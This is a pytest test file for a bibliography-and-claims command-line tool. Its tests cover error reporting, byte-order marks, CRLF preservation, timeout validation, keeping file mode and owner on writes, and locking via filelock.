def test_a_write_into_an_empty_bibliography_refuses_promptly(data_copy, tmp_path):
    (data_copy / "sources.bib").write_text("% empty\n", encoding="utf-8")
    new = tmp_path / "new.bib"
    new.write_text("@book{doe2000,\n  author = {Doe, Jane},\n  title = {T},\n  year = {2000},\n  publisher = {P}\n}\n",
                   encoding="utf-8")
    before = snapshot(data_copy)
    r = cli("bib", "add", new, "--data", data_copy, timeout=60)  # a hang guard, not a timing assertion
    assert_one_error(r, where=str(data_copy / "claims.ttl"), match=r"and \d+ more.*refusing to write")
    assert snapshot(data_copy) == before


# ================================================================ 11. smaller
def test_a_field_given_twice_is_named_as_such(data_copy):
    bib = data_copy / "sources.bib"
    text = bib.read_text(encoding="utf-8")
    i = text.index("@book{gray1989,")
    bib.write_text(text[:i] + text[i:].replace("  year", "  title = {Again},\n  year", 1), encoding="utf-8")
    err = assert_one_error(run("stats", "--data", data_copy, env={"PARTNERGRAPH_NO_CACHE": "1"}),
                           where=str(bib), match="given twice")
    assert f":{text[:i].count(chr(10)) + 1}:" in err


def test_a_bom_in_claims_is_read_or_named(data_copy):
    ttl = data_copy / "claims.ttl"
    ttl.write_bytes(b"\xef\xbb\xbf" + ttl.read_bytes())
    r = run("stats", "--data", data_copy, "--format", "json", env={"PARTNERGRAPH_NO_CACHE": "1"})
    if r.exit_code:
        assert_one_error(r, match="byte order mark")
    assert "\ufeff" not in r.output


def test_crlf_files_stay_crlf_after_a_write(data_copy, tmp_path):
    for name in ("sources.bib", "claims.ttl"):
        p = data_copy / name
        p.write_bytes(p.read_bytes().replace(b"\n", b"\r\n"))
    before_bib = (data_copy / "sources.bib").read_bytes()
    new = tmp_path / "new.bib"
    new.write_text("@book{doe2000,\n  author = {Doe, Jane},\n  title = {A New Book},\n  year = {2000},\n"
                   "  publisher = {P}\n}\n", encoding="utf-8")
    assert run("bib", "add", new, "--data", data_copy).exit_code == 0
    after = (data_copy / "sources.bib").read_bytes()
    assert after.startswith(before_bib) and b"\n" not in after.replace(b"\r\n", b"")
    assert run(*WRITERS["link"](data_copy)).exit_code == 0
    ttl = (data_copy / "claims.ttl").read_bytes()
    assert b"\n" not in ttl.replace(b"\r\n", b"") and b"lib-0001" in ttl


@pytest.mark.parametrize("value", ["0", "-3", "abc"])
def test_a_store_timeout_of_zero_or_less_is_refused(value):
    r = run("stats", "--store", "http://127.0.0.1:9/sparql", env={"PARTNERGRAPH_STORE_TIMEOUT": value})
    assert_one_error(r, match="PARTNERGRAPH_STORE_TIMEOUT")


# ================================================================ writes keep mode and owner
def test_a_write_keeps_the_files_mode(data_copy):
    ttl, bib = data_copy / "claims.ttl", data_copy / "sources.bib"
    os.chmod(ttl, 0o444)
    os.chmod(bib, 0o640)
    assert run("bib", "rename", "balloch2001", "balloch2001x", "--data", data_copy).exit_code == 0
    assert stat.S_IMODE(ttl.stat().st_mode) == 0o444 and stat.S_IMODE(bib.stat().st_mode) == 0o640
    assert b"balloch2001x" in ttl.read_bytes()


def test_a_write_keeps_the_files_owner(data_copy):
    ttl = data_copy / "claims.ttl"
    if os.geteuid() == 0:
        owner = (4321, 4322)
    else:  # without root: at least the group, when the user has a second one
        owner = (os.getuid(), next((g for g in os.getgroups() if g != os.getgid()), os.getgid()))
    os.chown(ttl, *owner)
    assert run(*WRITERS["link"](data_copy)).exit_code == 0
    st = ttl.stat()
    assert (st.st_uid, st.st_gid) == owner and b"lib-0001" in ttl.read_bytes()


def test_no_fcntl_at_import_time():
    code = ("import sys; sys.modules['fcntl'] = None\n"
            "import partnergraph.cli\n"
            "from click.testing import CliRunner\n"
            "r = CliRunner().invoke(partnergraph.cli.main, ['bib', '--help'])\n"
            "assert r.exit_code == 0, r.output\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert out.returncode == 0, out.stderr


def test_the_lock_is_a_well_kept_library_not_fcntl():
    text = "\n".join(p.read_text(encoding="utf-8") for p in (ROOT / "partnergraph").rglob("*.py"))
    assert not re.search(r"^\s*import fcntl|^\s*from fcntl", text, re.M)
    assert "filelock" in text
